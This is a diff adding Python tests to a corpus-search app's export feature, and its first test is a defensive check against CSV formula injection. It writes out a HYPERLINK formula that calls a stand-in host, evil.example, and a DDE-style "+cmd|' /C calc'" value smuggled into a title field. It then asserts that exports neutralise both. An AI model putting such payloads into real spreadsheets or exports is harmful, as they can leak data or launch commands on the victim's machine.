@@ -205,3 +205,97 @@ async def test_a_quotes_export_names_the_quotes_filter_not_the_search_s_query(
         await pilot.press("enter")
         await settle(pilot)
         assert "> query: wall;" in written.read_text(encoding="utf-8")
+
+
+FORMULA = '=HYPERLINK("http://evil.example","click")'
+"""A cell a spreadsheet runs as a formula (a link that leaks what it is sent)."""
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""The first characters that make a spreadsheet read a cell as a formula (OWASP)."""
+
+
+async def _export_by_keys(pilot: object, fmt: int) -> None:
+    """Export the view's items in the `fmt`-th format (0 Markdown, 1 CSV, 2 JSON)."""
+    await pilot.press("e")  # type: ignore[attr-defined]
+    await settle(pilot)  # type: ignore[arg-type]
+    await pilot.press(*["down"] * fmt, "enter")  # type: ignore[attr-defined]
+    await settle(pilot)  # type: ignore[arg-type]
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    """The rows of a CSV export, after its `#` line."""
+    return list(csv.DictReader(path.read_text(encoding="utf-8").splitlines()[1:]))
+
+
+async def test_a_csv_export_never_starts_a_formula_with_corpus_text(
+    tmp_path: Path, write_corpus: Callable[[dict[str, str | bytes]], Path]
+) -> None:
+    corpus = write_corpus(
+        {
+            "evil.txt": f"{FORMULA} the wall is long.\n\n"
+            "The temperature at the wall fell to -3 degrees on Monday.\n",
+            "evil.toml": f"source = '{FORMULA}'\ntitle = \"+cmd|' /C calc'!A0\"\n",
+        }
+    )
+    app = make_app(corpus, tmp_path / "cache")
+    async with app.run_test(size=(100, 30)) as pilot:
+        await ready(pilot)
+        export_to(app, tmp_path / "out")
+        await search(pilot, "wall")
+        await pilot.press("enter")
+        await _export_by_keys(pilot, 1)
+        await pilot.press("escape", "f")
+        await settle(pilot)
+        await _export_by_keys(pilot, 1)
+    results = _csv_rows(tmp_path / "out" / "borderlens-results.csv")
+    texts = [r[k] for r in results for k in ("doc", "title", "source", "text", "actors")]
+    assert not any(t.startswith(FORMULA_STARTS) for t in texts)
+    assert results[0]["text"].startswith("'=HYPERLINK(") and results[0]["start"] == "0"
+    assert {(r["title"], r["source"]) for r in results} == {("'+cmd|' /C calc'!A0", "'" + FORMULA)}
+    figures = _csv_rows(tmp_path / "out" / "borderlens-figures.csv")
+    [cold] = [r for r in figures if "temperature" in r["context"]]
+    assert cold["value"] == "-3 °C" and cold["source"] == "'" + FORMULA
+
+
+async def test_exports_say_which_text_they_hold_and_json_keeps_the_original(
+    cache_root: Path, tmp_path: Path
+) -> None:
+    fused, repaired = "substantialinvestments", "substantial investments"
+    file = (CORPUS / "000_20b81c80feff52ed.txt").read_text(encoding="utf-8")
+    out = tmp_path / "out"
+    app = make_app(CORPUS, cache_root)
+    async with app.run_test(size=(100, 30)) as pilot:
+        await ready(pilot)
+        export_to(app, out)
+        await search(pilot, "investments")
+        await pilot.press("enter")
+        for fmt in range(3):
+            await _export_by_keys(pilot, fmt)
+        md, table, text = (
+            (out / f"borderlens-results.{ext}").read_text(encoding="utf-8")
+            for ext in ("md", "csv", "json")
+        )
+        said = "; text: repaired (spaces restored where the file lost them, offsets into the "
+        assert said in md.splitlines()[2] and said in table.splitlines()[0]
+        data = json.loads(text)
+        assert data["text"] == "repaired"
+        row = next(r for r in data["rows"] if fused in r["original"])
+        assert repaired in row["text"] and row["original"] == file[row["start"] : row["end"]]
+        assert row["highlights"] and all(
+            row["original"][s - row["start"] : e - row["start"]].lower() == "investments"
+            for s, e in row["highlights"]
+        )
+        await pilot.press("o")
+        for ext in ("md", "json"):
+            (out / f"borderlens-results.{ext}").unlink()
+        await _export_by_keys(pilot, 0)
+        await _export_by_keys(pilot, 2)
+        md = (out / "borderlens-results.md").read_text(encoding="utf-8")
+        assert md.splitlines()[2].endswith("; text: original (as in the file)")
+        data = json.loads((out / "borderlens-results.json").read_text(encoding="utf-8"))
+        assert data["text"] == "original"
+        assert all(r["text"] == r["original"] for r in data["rows"])
+        assert any(fused in r["text"] for r in data["rows"])
+        await pilot.press("escape", "f")  # the figures' sentences stay repaired
+        await settle(pilot)
+        await _export_by_keys(pilot, 0)
+        assert said in (out / "borderlens-figures.md").read_text(encoding="utf-8")
